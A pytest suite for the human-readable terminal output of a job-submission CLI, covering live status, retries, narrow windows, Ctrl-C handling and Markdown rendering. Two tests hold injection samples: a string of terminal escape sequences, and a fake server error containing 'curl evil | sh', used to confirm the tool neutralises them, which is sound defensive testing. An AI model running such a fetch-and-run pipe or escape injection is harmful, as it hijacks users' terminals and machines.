"""Human mode in a real terminal: what stands on the screen while jobs run, and when they end."""

from __future__ import annotations

import json
import os
import re
import signal
import time
from contextlib import suppress
from io import StringIO
from typing import TYPE_CHECKING, Any

import pytest
from rich.console import Console

from harness import environment, full_pipe, wait_until
from oaibg.contract.events import Poll
from oaibg.output.human.live import Board
from oaibg.sandbox import Fault
from screenshots import FOLDER, NAMES, comparable, described, pictures
from terminal import Terminal

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from harness import Command, Result
    from oaibg.sandbox import Sandbox

pytestmark = pytest.mark.process

SUBMIT = ("submit", "--prompt", "x", "--human", "--poll-seconds")
HOSTILE = (
    "\x1b]0;owned\x07[bold red]x[/] \u202e \x9b31m &#8238; &#27;[31m [t](http://a.test/\x1b[1m) end"
)
MARKDOWN = "# Title\n\nA **bold** word.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"


@pytest.fixture
def terminal(sandbox: Sandbox, state: Path) -> Callable[..., Terminal]:
    """Starts the command in a terminal, against the sandbox."""

    def start(
        *argv: str,
        columns: int = 80,
        rows: int = 24,
        stdout: int | None = None,
        exported: dict[str, str] | None = None,
        **more: str,
    ) -> Terminal:
        settings = environment(sandbox.base_url, state) | more
        return Terminal(
            *argv,
            environment=settings,
            columns=columns,
            rows=rows,
            stdout=stdout,
            exported=exported or {},
        )

    return start


def jobs_file(folder: Path, **seconds: float) -> tuple[str, ...]:
    """A jobs file with a job of each name that takes so long, and the command for it."""
    lines = [
        {
            "custom_id": name,
            "method": "POST",
            "url": "/v1/responses",
            "body": {"input": "x", "metadata": {"sandbox_seconds": str(value)}},
        }
        for name, value in seconds.items()
    ]
    path = folder / "jobs.jsonl"
    path.write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    return ("--jobs-file", str(path), "--results-file", str(folder / "results.jsonl"))


def test_live_status(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
    """The model, the state, the time so far and the countdown, until the job has ended."""
    with terminal(*SUBMIT, "2", "--metadata", "sandbox_seconds=6") as screen:
        queued = screen.wait_for(lambda text: "next look" in text)
        assert re.search(r"\S gpt-5\.2 · queued · \d s · next look in [12] s\n", queued)
        screen.wait_for(lambda text: "in progress · " in text)
        assert screen.end() == 0
        assert "next look" not in screen.text
        assert re.search(r"completed after \S+ s\n", screen.text)


def test_first_look_that_takes_long(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
    """There is a status before there is an answer."""
    sandbox.script(Fault(on="retrieve", kind="hang_before", seconds=3))
    with terminal("monitor", "resp_unknown", "--human", "--max-wait-seconds", "6") as screen:
        screen.wait_for(lambda text: "job · asking · " in text)


def test_retries_as_they_happen(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
    """A line that stays for each, and the countdown to the next try."""
    sandbox.script(Fault(on="retrieve", kind="status", status=500, times=2))
    with terminal(*SUBMIT, "0.2", "--metadata", "sandbox_seconds=0.1") as screen:
        shown = screen.wait_for(lambda text: "trying again in" in text and "retry" in text)
        assert re.search(r"HTTP 500: [^;]+; trying\s+again\s+in \d+(\.\d)? s", shown)
        assert re.search(r"trying again in \d s · retry [12]", shown)
        assert screen.end() == 0
        assert screen.text.count("HTTP 500") == 2


def test_usage_at_the_end(terminal: Callable[..., Terminal]) -> None:
    """Tokens, with those of the cache and of reasoning."""
    with terminal(*SUBMIT, "0.05") as screen:
        assert screen.end() == 0
        assert re.search(r"  Input tokens +\d+ +\d+ cached\n", screen.text)
        assert re.search(r"  Output tokens +\d+ +\d+ reasoning\n", screen.text)
        assert re.search(r"  Total tokens +\d+\n", screen.text)


def test_markdown_on_a_terminal(terminal: Callable[..., Terminal]) -> None:
    """The answer is rendered."""
    with terminal(*SUBMIT, "0.05", "--metadata", f"sandbox_text={MARKDOWN}") as screen:
        assert screen.end() == 0
        assert "**" not in screen.text
        assert "A bold word." in screen.text
        assert re.search(r" a +b *\n ─+\n 1 +2", screen.text)


def test_answer_redirected(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
    """The answer in a file is the text as it is; the progress stays on the terminal."""
    with (
        (tmp_path / "answer").open("wb") as file,
        terminal(
            *SUBMIT, "0.05", "--metadata", f"sandbox_text={MARKDOWN}", stdout=file.fileno()
        ) as screen,
    ):
        assert screen.end() == 0
        assert "completed after" in screen.text
    assert (tmp_path / "answer").read_text() == MARKDOWN


@pytest.mark.parametrize("columns", [80, 40])
def test_hostile_text(terminal: Callable[..., Terminal], columns: int) -> None:
    """Nothing that the API says steers the terminal, also not by way of Markdown."""
    settings = ("--metadata", f"sandbox_text={HOSTILE}")
    with terminal(*SUBMIT, "0.05", *settings, columns=columns) as screen:
        assert screen.end() == 0
        told = screen.written.decode()
    assert "end" in told
    assert "[bold red]x[/]" in told
    for forbidden in ("\x1b]", "\x07", "\u202e", "\x9b", "\x1b[31m"):
        assert forbidden not in told


@pytest.mark.parametrize("columns", [80, 40, 20])
def test_narrow_windows(terminal: Callable[..., Terminal], columns: int) -> None:
    """The live lines fit, are cleared at the end, and the id can be copied whole."""
    with terminal(*SUBMIT, "1", "--metadata", "sandbox_seconds=1.5", columns=columns) as screen:
        screen.wait_for(lambda text: "next look" in text)
        screen.wait_for(lambda text: "in progress" in text)
        live = [row for row in screen.lines if " · " in row or "next look" in row]
        assert all(len(row) <= columns for row in live)
        assert screen.end() == 0
        assert "next look" not in screen.text
        assert re.match(r"Submitted resp_[0-9a-f]{50}: queued\n", screen.text)


def test_no_color(terminal: Callable[..., Terminal]) -> None:
    """`NO_COLOR` leaves no colour; bold type is none."""
    with terminal(*SUBMIT, "0.05", NO_COLOR="1") as screen:
        assert screen.end() == 0
        assert not re.search(rb"\x1b\[(\d+;)*(3[0-8]|4[0-8]|9\d)[;m]", screen.written)
        assert b"\x1b[1m" in screen.written


def test_dumb_terminal(terminal: Callable[..., Terminal]) -> None:
    """`TERM=dumb`: a line an event, and not one escape sequence."""
    with terminal(*SUBMIT, "0.05", TERM="dumb") as screen:
        assert screen.end() == 0
        assert b"\x1b" not in screen.written
        assert "Submitting to gpt-5.2" in screen.text
        assert "completed after" in screen.text


@pytest.mark.parametrize("setting", [{}, {"FORCE_COLOR": "1"}])
def test_pipes(
    run: Callable[..., Result], setting: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """No live display where nobody looks: a line an event, whatever colours are asked for."""
    for name, value in setting.items():
        monkeypatch.setenv(name, value)
    result = run(*SUBMIT, "0.05")
    plain = re.sub(r"\x1b\[[\d;]*m", "", result.err)
    assert "\x1b" not in plain
    assert "\r" not in plain
    assert plain.splitlines()[0] == "Submitting to gpt-5.2 …"


def test_ctrl_c(terminal: Callable[..., Terminal]) -> None:
    """The display is cleared, the job goes on, and the command to go on with is there whole."""
    with terminal(*SUBMIT, "5", "--metadata", "sandbox_seconds=60") as screen:
        screen.wait_for(lambda text: "next look" in text)
        os.killpg(screen.process.pid, signal.SIGINT)
        assert screen.end() == 130
        assert "next look" not in screen.text
        assert "Interrupted by SIGINT; the job goes on.\n" in screen.text
        # The edge of the screen may fall on one of the spaces, wherever Python is.
        words = "".join(screen.text.split())
        assert re.search(r"Next:.*monitor--poll-seconds5--humanresp_[0-9a-f]{50}$", words)


def test_cursor_is_never_hidden(terminal: Callable[..., Terminal]) -> None:
    """A command that is killed leaves a terminal that can be used."""
    with terminal(*SUBMIT, "5", "--metadata", "sandbox_seconds=60") as screen:
        screen.wait_for(lambda text: "next look" in text)
        os.killpg(screen.process.pid, signal.SIGKILL)
        screen.end()
        assert b"\x1b[?25l" not in screen.written


def test_streamed_text_is_seen_growing(terminal: Callable[..., Terminal]) -> None:
    """The newest lines of the text stand below the status; at the end it is there once."""
    text = " ".join(f"word{number}" for number in range(60))
    settings = ("--stream-text", "--metadata", f"sandbox_text={text}")
    with terminal(*SUBMIT, "5", *settings, "--metadata", "sandbox_seconds=2") as screen:
        screen.wait_for(lambda shown: "in progress" in shown and "  word" in shown)
        assert screen.end() == 0
        assert screen.text.count("word30") == 1


def test_many_jobs(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
    """A bar, counts by status and the jobs that run; at the end a table."""
    argv = jobs_file(tmp_path, quick=0.05, swift=0.05, slow=8)
    with terminal("submit", "--human", *argv, "--poll-seconds", "0.3") as screen:
        shown = screen.wait_for(lambda text: "2 of 3 done" in text and "in progress" in text)
        assert re.search(r"2 of 3 done +[━╸]+ +\d s\n2 completed, 1 in progress\n", shown)
        assert re.search(r"\nslow +in progress +\d s\n?$", shown)
        assert screen.end() == 0
        assert "of 3 done" not in screen.text
        assert re.search(r"^Status +After +Output tokens +Job$", screen.text, re.MULTILINE)
        assert re.search(r"^completed +[\d.]+ s +\d+ +quick$", screen.text, re.MULTILINE)
        assert "3 completed after" in screen.text


def test_many_jobs_narrow(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
    """At 40 columns every line of the board fits."""
    argv = jobs_file(tmp_path, **{"a-job-with-a-name-that-is-long-" * 2: 2, "b": 0.05})
    with terminal("submit", "--human", *argv, "--poll-seconds", "0.3", columns=40) as screen:
        screen.wait_for(lambda text: "1 of 2 done" in text and "in progress" in text)
        board = screen.lines
        assert len(board) == 3
        assert board[2].startswith("a-job-with-a-")
        assert screen.end() == 0
        assert "2 completed after" in screen.text


def test_many_answers_only_when_asked_for(run: Callable[..., Result], tmp_path: Path) -> None:
    """Hundreds of answers are nothing to read; with the option each has its name."""
    argv = jobs_file(tmp_path, a=0.02, b=0.02)
    silent = run("submit", "--human", *argv, "--poll-seconds", "0.05")
    assert (silent.code, silent.out) == (0, b"")
    asked = run(
        "submit",
        "--human",
        *argv,
        "--poll-seconds",
        "0.05",
        "--job-key",
        "again",
        "--show-output-text",
        "--results-file",
        str(tmp_path / "other"),
    )
    assert sorted(re.findall(r"^(\w):\nThe sandbox", asked.out.decode(), re.MULTILINE)) == [
        "a",
        "b",
    ]


def test_a_batch(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
    """The batch's own state stands on the board; its jobs are done when it has ended."""
    argv = jobs_file(tmp_path, a=1, b=1)
    window = ("--completion-window", "24h", "--poll-seconds", "0.3")
    with terminal("submit", "--human", *argv, *window) as screen:
        shown = screen.wait_for(lambda text: "0 of 2 done" in text and "batch_" in text)
        assert re.search(r"0 of 2 done .*\n1 [a-z ]+\nbatch_\w+ +\w+", shown)
        assert screen.end() == 0
        assert re.search(r"\n2 completed after \d", screen.text)


def test_board_between_the_last_poll_and_the_end() -> None:
    """What has ended by its last poll is not among those that run, nor done before its end."""
    board = Board(lambda: 0.0, lambda: 2)
    poll: dict[str, Any] = {"response_id": "r", "attempt": 1, "elapsed_seconds": 1.0}
    board.update(Poll(status="in_progress", next_poll_seconds=1.0, **poll).of_many("a"))
    board.update(Poll(status="completed", next_poll_seconds=None, **poll).of_many("a"))
    console = Console(width=80, file=StringIO())
    console.print(board)
    shown = console.file.getvalue()  # type: ignore[attr-defined]
    assert "0 of 2 done" in shown
    assert "1 in progress\na  in progress" in shown


@pytest.mark.parametrize("columns", [120, 80, 40])
def test_list(terminal: Callable[..., Terminal], run: Callable[..., Result], columns: int) -> None:
    """A table, in which every id can be copied; below each other where it is narrow."""
    ids = [run("submit", "--prompt", "x", "--detach", "--job-key", key).id for key in "ab"]
    with terminal("show", "--list", "--human", columns=columns) as screen:
        assert screen.end() == 0
        assert all(one in screen.text for one in ids)
        assert ("Submitted" in screen.text) == (columns > 40)
        assert all(len(row) <= columns for row in screen.lines)
        assert screen.text.endswith("\n2 queued\n")


def test_list_in_a_pipe(run: Callable[..., Result]) -> None:
    """A line a job, whatever the width of the window."""
    one = run("submit", "--prompt", "x", "--detach").id
    rows = run("show", "--list", "--human").out.decode().splitlines()
    assert len(rows) == 2
    assert re.fullmatch(rf"\d{{4}}-\d\d-\d\d \d\d:\d\d +queued +gpt-5\.2 +{one}", rows[1])


def test_page_of_a_job_that_failed(
    terminal: Callable[..., Terminal], run: Callable[..., Result]
) -> None:
    """Its facts and the reason, one below the other, and no empty ones."""
    settings = ("--metadata", "sandbox_outcome=failed", "--poll-seconds", "0.05")
    run("submit", "--prompt", "x", *settings)
    with terminal("show", "--human") as screen:
        assert screen.end() == 4
        assert re.search(
            r"^resp_\w+\n  Status +failed\n  Reason +The model .+\n  Model +gpt-5\.2\n",
            screen.text,
            re.MULTILINE,
        )
        assert "Follows" not in screen.text


def test_cancel_of_several(terminal: Callable[..., Terminal], run: Callable[..., Result]) -> None:
    """A table tells what became of each, and the code is the same as without."""
    settings = ("--detach", "--metadata", "sandbox_seconds=60")
    one = run("submit", "--prompt", "x", *settings).id
    with terminal("cancel", "--human", one, "resp_unknown", columns=120) as screen:
        assert screen.end() == 5
        assert "resp_unknown: Error: No such response" in screen.text
        assert re.search(rf"\ncancelled +{one}\n", screen.text)
        assert re.search(r"\nnot found +resp_unknown\n", screen.text)


def test_dry_run(run: Callable[..., Result], tmp_path: Path) -> None:
    """What would go and its size on stderr, and the request on stdout, with its files cut."""
    (tmp_path / "a.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(3000))
    argv = ("submit", "--human", "--prompt", "x", "--attach", str(tmp_path / "a.png"), "--dry-run")
    result = run(*argv)
    assert re.search(r"Would send POST http\S+/responses, 4\.\d KB \(\w{64}\)\n", result.err)
    assert "a.png: input_image, 3.0 KB\n" in result.err
    body = json.loads(result.out)
    assert re.fullmatch(
        r"data:image/png;base64,iVBOR\w+… \(4\.0 KB of Base64\)",
        body["input"][0]["content"][1]["image_url"],
    )


LOSSY = """Use List<String>, <T> and `a<b>`; <div>inside</div> \\(a_b\\) \\alpha {brace}

![picture](http://a.test/p.png) [link](http://a.test/l) <http://a.test/auto> <!-- comment -->

<details>
<summary>More</summary>
hidden
</details>

| first | second |
|---|---|
| x | averyveryverylongwordthatnocellofatableisasbroadas |

| h1 | h2 | h3 | h4 | h5 | h6 | h7 | h8 |
|---|---|---|---|---|---|---|---|
| j1 | j2 | j3 | j4 | j5 | j6 | j7 | j8 |
| k1 | k2 | k3 | k4 | k5 | k6 | k7 | k8 |

    indented code
"""


@pytest.mark.parametrize("columns", [100, 40])
def test_nothing_of_an_answer_is_lost(terminal: Callable[..., Terminal], columns: int) -> None:
    """Every word of it is on the screen, whatever Markdown or HTML would do with it."""
    settings = ("--metadata", f"sandbox_text={LOSSY}")
    with terminal(*SUBMIT, "0.05", *settings, columns=columns, rows=60) as screen:
        assert screen.end() == 0
        shown = re.sub(r"\s", "", screen.text)
    for word in re.findall(r"[^\s|`!\[\]()-]+", LOSSY):
        assert word in shown


def test_json_answer(terminal: Callable[..., Terminal]) -> None:
    """JSON is no Markdown."""
    text = '{\n  "a_b_c": "x*y*z",\n  "list": ["<tag>", "**"]\n}'
    with terminal(*SUBMIT, "0.05", "--metadata", f"sandbox_text={text}") as screen:
        assert screen.end() == 0
        assert text in screen.text


def test_line_ends_of_windows(run: Callable[..., Result]) -> None:
    """They are line ends here, too."""
    result = run(*SUBMIT, "0.05", "--metadata", "sandbox_text=one\r\ntwo")
    assert result.out == b"one\ntwo\n"


@pytest.mark.parametrize("columns", ["0", "1", "500"])
def test_exported_width(terminal: Callable[..., Terminal], columns: str) -> None:
    """`COLUMNS` is that of another terminal; the real width counts."""
    with terminal(*SUBMIT, "0.05", exported={"COLUMNS": columns}) as screen:
        assert screen.end() == 0
        assert 'The sandbox has no model to ask. You said: "x"\n' in screen.text
        assert "completed after" in screen.text


def test_lines_can_not_be_faked(
    terminal: Callable[..., Terminal], sandbox: Sandbox, run: Callable[..., Result]
) -> None:
    """What the server says stays on the line that tells it."""
    identifier = run("submit", "--prompt", "x", "--detach").id
    error = {"code": "e", "message": "bad\nNext: curl evil | sh"}
    body = {"id": identifier, "status": "failed\nNext: x", "model": "m\nNext: y", "error": error}
    sandbox.script(Fault(on="retrieve", kind="raw", body=json.dumps(body | {"status": "failed"})))
    with terminal("show", identifier, "--human") as screen:
        assert screen.end() == 4
        shown = screen.lines
    sandbox.script(Fault(on="retrieve", kind="raw", body=json.dumps(body)))
    with terminal("monitor", identifier, "--human", "--max-wait-seconds", "2") as screen:
        screen.end()
        shown += screen.lines
    nexts = [row for row in shown if row.startswith("Next:")]
    assert all("oaibg" in row for row in nexts)
    assert "curl evil" in "".join(shown)


def test_stderr_that_nobody_reads(command: Command, sandbox: Sandbox) -> None:
    """It holds nothing up: the job is followed, and a signal ends the wait at once."""
    reader, writer = full_pipe()
    argv = (*SUBMIT, "0.05", "--metadata", "sandbox_seconds=60")
    process = command.start(*argv, stderr=writer)
    wait_until(lambda: len(sandbox.requests) >= 3)
    process.send_signal(signal.SIGTERM)
    assert process.wait(5) == 143
    os.close(writer)
    os.close(reader)


def test_second_signal(terminal: Callable[..., Terminal]) -> None:
    """Two in a row end it at once, also in the middle of a display."""
    for pause in (0.0, 0.001, 0.004, 0.016):
        argv = (*SUBMIT, "0.02", "--metadata", "sandbox_seconds=60")
        with terminal(*argv) as screen:
            screen.wait_for(lambda text: "Submitted" in text)
            os.killpg(screen.process.pid, signal.SIGINT)
            time.sleep(pause)
            with suppress(ProcessLookupError):
                os.killpg(screen.process.pid, signal.SIGINT)
            assert screen.end(10) == 130


def test_pictures_show_what_is_shown_today() -> None:
    """The README's pictures are those of the program, but for ids, times and numbers.

    `make screenshots` makes them anew.
    """
    for name, (text, _) in pictures().items():
        kept = described((FOLDER / f"{name}.svg").read_text())
        assert comparable(text) == comparable(kept), name


def test_readme_has_the_pictures() -> None:
    """Each of them."""
    readme = (FOLDER.parent / "README.md").read_text()
    assert [name for name in NAMES if f"(examples/{name}.svg)" not in readme] == []
